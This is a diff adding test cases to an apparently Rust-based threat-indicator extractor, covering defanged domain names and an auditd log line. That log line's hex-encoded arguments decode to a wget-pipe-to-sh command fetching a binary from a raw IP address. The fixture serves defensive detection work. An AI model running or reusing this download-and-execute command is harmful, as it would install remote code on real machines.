@@ -604,8 +604,13 @@ fn bracketed_url_separators_and_spaced_markers() {
     // A country code or a long-standing top-level domain after the marker
     // makes even a short word a host (found by the defang property test).
     assert_eq!(
-        found("C2: a [dot] com for C2, then it [.] ru, a [dot] 0-0 [dot] com"),
-        kinds_values(&[("domain", "a.com"), ("domain", "it.ru"), ("domain", "a.0-0.com")])
+        found("C2: a [dot] com for C2, then it [.] ru, a [dot] 0-0 [dot] com, a [.] aaa [.] com"),
+        kinds_values(&[
+            ("domain", "a.com"),
+            ("domain", "it.ru"),
+            ("domain", "a.0-0.com"),
+            ("domain", "a.aaa.com"),
+        ])
     );
 }
 
@@ -2088,6 +2093,11 @@ fn blind_round_ten_values_glued_to_entities_and_fragments() {
     // and a licence key in a RAT's settings is no file's digest.
     assert!(found("Zscaler Client Connector 4.5.0.198, MDE sensor").is_empty());
     assert!(found(r#""licence"="6E5B2F1AC09D3847B1E2F4A6C8D0E2F1""#).is_empty());
+    // A command line auditd wrote in hex (arguments apart by NUL bytes)
+    // gives its link, over the span of the hex.
+    let audit = "type=EXECVE argc=3 a0=\"bash\" a1=\"-c\" \
+                 a2=77676574002D714F2D00687474703A2F2F3139332E3233332E3230322E38312F7838365F3634007C007368";
+    assert_eq!(found(audit), kinds_values(&[("url", "http://193.233.202.81/x86_64")]));
     // JSON in a JSON string (a HAR's response text) escapes its slashes'
     // backslashes and its quotes.
     assert_eq!(
